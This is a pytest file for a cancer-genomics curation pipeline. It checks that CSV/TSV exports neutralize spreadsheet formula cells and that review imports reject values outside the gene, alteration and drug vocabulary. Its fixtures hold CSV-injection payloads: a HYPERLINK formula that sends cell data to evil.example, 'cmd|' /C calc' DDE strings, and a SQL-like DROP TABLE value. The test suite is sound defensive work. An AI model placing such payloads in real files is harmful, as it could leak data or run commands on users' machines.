"""Spreadsheet safety: formula-like cells are neutralized in every CSV/TSV a spreadsheet may open
(release tables, CIViC TSV, review export) while Parquet and JSON Lines keep the raw text; curated
gene, alteration and drug values are checked against the vocabulary on review import."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.config import load_settings
from pipeline.curation import review
from pipeline.stages.release import ChangeSet, ReleaseContent, build_release_files
from schemas.errors import InputError
from schemas.models import Document, Triple
from schemas.spreadsheet import FORMULA_START, delimited_bytes, neutralize, restore
from schemas.vocab import triple_key_id

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def triple(**kw) -> Triple:
    base = {"doc_id": "d1", "evidence": "EGFR C797S confers resistance to osimertinib.", "drugs": ["osimertinib"], "gene": "EGFR", "alteration": "C797S", "outcome": "resistance"}
    base.update(kw)
    t = Triple.model_validate(base)
    t.triple_id = triple_key_id(t.doc_id, t.drugs, t.gene, t.alteration, t.outcome)
    return t


def csv_rows(data: bytes, delimiter: str = ",") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


# ------------------------------------------------------------------ the one writer


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_start_is_neutralized_and_restored(value: str) -> None:
    assert value.startswith(FORMULA_START)
    out = csv_rows(delimited_bytes([{"a": value, "b": "plain"}], ["a", "b"]))
    assert out == [{"a": "'" + value, "b": "plain"}]
    assert restore(out[0]["a"]) == value
    assert neutralize("C797S") == "C797S" and restore("'quoted by a person") == "'quoted by a person"


def test_numbers_stay_numeric_text_that_looks_numeric_does_not() -> None:
    out = delimited_bytes([{"n": -0.5, "i": -3, "s": "-0.5", "b": True}], ["n", "i", "s", "b"], delimiter="\t")
    assert out.decode("utf-8") == "n\ti\ts\tb\n-0.5\t-3\t'-0.5\ttrue\n"


# ------------------------------------------------------------------ release files


def test_release_csv_and_tsv_are_neutralized_parquet_and_jsonl_keep_the_raw_value() -> None:
    evil = FORMULAS[0]
    t = triple(evidence=evil + " EGFR C797S confers resistance to osimertinib.", sentence="@x", source_id="-42")
    doc = Document(doc_id="d1", text="x", title="=1+2 title")
    content = ReleaseContent(triples=[t], documents=[doc], curation={t.triple_id: {"curator": "+ann", "curated_at": "", "note": "=note"}})
    files = build_release_files("1.0.0", content, None, ChangeSet())

    row = csv_rows(files["triples.csv"])[0]
    assert row["evidence"] == "'" + t.evidence and row["sentence"] == "'@x" and row["source_id"] == "'-42"
    assert row["curator"] == "'+ann" and row["curation_note"] == "'=note"
    assert row["confidence"] == "0.5"
    assert csv_rows(files["documents.csv"])[0]["title"] == "'=1+2 title"
    civic = csv_rows(files["civic_evidence.tsv"], "\t")[0]
    assert civic["statement"] == "'" + t.evidence and civic["source"] == "'-42"

    assert json.loads(files["triples.jsonl"].decode("utf-8").splitlines()[0])["evidence"] == t.evidence
    parquet = pq.read_table(io.BytesIO(files["triples.parquet"])).to_pylist()[0]
    assert parquet["evidence"] == t.evidence and parquet["curator"] == "+ann"
    card = files["README.md"].decode("utf-8")
    assert "formula" in card and "OWASP" in card


# ------------------------------------------------------------------ review export and import


def cli(*args: object, ok: bool = True):
    result = CliRunner().invoke(app, [str(a) for a in args])
    if ok:
        assert result.exit_code == 0, (args, result.output, result.exception)
    return result


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("demo")
    cli("run", "--offline", "--no-release", "--ner-model", "none", "--workdir", root / "work", "--releases-dir", root / "releases")
    return root


@pytest.fixture()
def work(demo_run: Path, tmp_path: Path) -> Path:
    shutil.copytree(demo_run / "work", tmp_path / "work")
    return tmp_path / "work"


def settings_of(work: Path):
    return load_settings(None, env={}, overrides={"pipeline": {"workdir": str(work), "releases_dir": str(work.parent / "releases")}})


def export(work: Path) -> tuple[Path, list[dict[str, str]]]:
    out = work.parent / "review.csv"
    cli("review", "export", "--out", out, "--workdir", work)
    return out, csv_rows(out.read_bytes())


def write_csv(path: Path, rows: list[dict[str, str]]) -> None:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=list(rows[0].keys()), lineterminator="\r\n")
    w.writeheader()
    w.writerows(rows)
    path.write_bytes(("\ufeff" + buf.getvalue()).encode("utf-8"))


def test_review_export_neutralizes_every_column_and_reimports_unchanged(work: Path) -> None:
    path = work / "normalized" / "triples.jsonl"
    rows = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines() if x.strip()]
    rows[0].update(source_id="=cmd|' /C calc'!A0", doc_id="+doc", section="@body")
    t = Triple.model_validate(rows[0])
    rows[0]["triple_id"] = triple_key_id(t.doc_id, t.drugs, t.gene, t.alteration, t.outcome)
    path.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")

    out, exported = export(work)
    row = next(r for r in exported if r["triple_id"] == rows[0]["triple_id"])
    assert row["source_id"] == "'=cmd|' /C calc'!A0" and row["doc_id"] == "'+doc" and row["section"] == "'@body"
    row["decision"] = "accept"
    write_csv(out, [row])
    cli("review", "import", out, "--curator", "ann", "--workdir", work)
    assert review.latest_decisions(settings_of(work))[rows[0]["triple_id"]]["decision"] == "accept"


BAD_VALUES = [
    pytest.param("gene", '=HYPERLINK("http://evil.example","x")', "is not an HGNC symbol", id="formula_gene"),
    pytest.param("gene", "NOT A GENE; DROP TABLE", "is not an HGNC symbol", id="sql_gene"),
    pytest.param("gene", "HER2", "write 'ERBB2'", id="alias_gene"),
    pytest.param("alteration", "@SUM(1+1)", "does not follow the alteration grammar", id="formula_alteration"),
    pytest.param("alteration", "Cys797Ser", "write 'C797S'", id="unnormalized_alteration"),
    pytest.param("drugs", "osimertinib; -cmd", "not in the drug lexicon", id="formula_drug"),
    pytest.param("drugs", "Tagrisso", "write 'osimertinib'", id="brand_drug"),
    pytest.param("gene", "new:=HYPERLINK(1)", "start with =, +, -, @", id="new_formula_gene"),
    pytest.param("gene", "new:NOT A GENE; DROP TABLE", "letters, digits and hyphens", id="new_gene_not_a_symbol"),
]


@pytest.mark.parametrize(("column", "value", "expected"), BAD_VALUES)
def test_curated_values_outside_the_vocabulary_are_refused_and_nothing_is_lost(work: Path, column: str, value: str, expected: str) -> None:
    out, rows = export(work)
    rows[0]["decision"] = "accept"
    write_csv(out, [rows[0]])
    cli("review", "import", out, "--curator", "ann", "--workdir", work)  # an earlier, good import

    rows[1]["decision"] = "accept"
    rows[2].update({"decision": "edit", column: value})
    write_csv(out, rows)
    res = cli("review", "import", out, "--curator", "ann", "--workdir", work, ok=False)
    assert res.exit_code == 1 and "Traceback" not in res.output
    line = next(x for x in res.output.splitlines() if x.startswith("row 4"))
    assert f"{column} " in line and expected in line, res.output
    assert str(out) in res.output and "nothing was applied" in res.output
    latest = review.latest_decisions(settings_of(work))
    assert set(latest) == {rows[0]["triple_id"]}


def test_new_prefix_accepts_a_value_outside_the_lexicon_deliberately(work: Path) -> None:
    out, rows = export(work)
    rows[0].update(decision="edit", drugs="new:zongertinib; osimertinib", gene="new:EGFRX", alteration="new:exon 18 thing")
    write_csv(out, [rows[0]])
    cli("review", "import", out, "--curator", "ann", "--workdir", work)
    fields = review.latest_decisions(settings_of(work))[rows[0]["triple_id"]]["fields"]
    assert fields == {"drugs": ["osimertinib", "zongertinib"], "gene": "EGFRX", "alteration": "exon 18 thing"}


def test_lexicon_values_pass_and_the_web_app_path_shares_the_check(work: Path) -> None:
    table = review.build_review_table(settings_of(work))
    item = table.items[0]
    sent = {"triple_id": item.triple_id, "decision": "edit"}
    good = review.submitted_decision(item, sent, fields={"gene": "ERBB2", "alteration": "exon 20 insertion", "drugs": "NVL-655; osimertinib"}, default_curator="ann")
    assert good.edits["gene"] == "ERBB2"
    with pytest.raises(InputError, match=r"gene '=1\+1' is not an HGNC symbol"):
        review.submitted_decision(item, sent, fields={"gene": "=1+1"}, default_curator="ann")
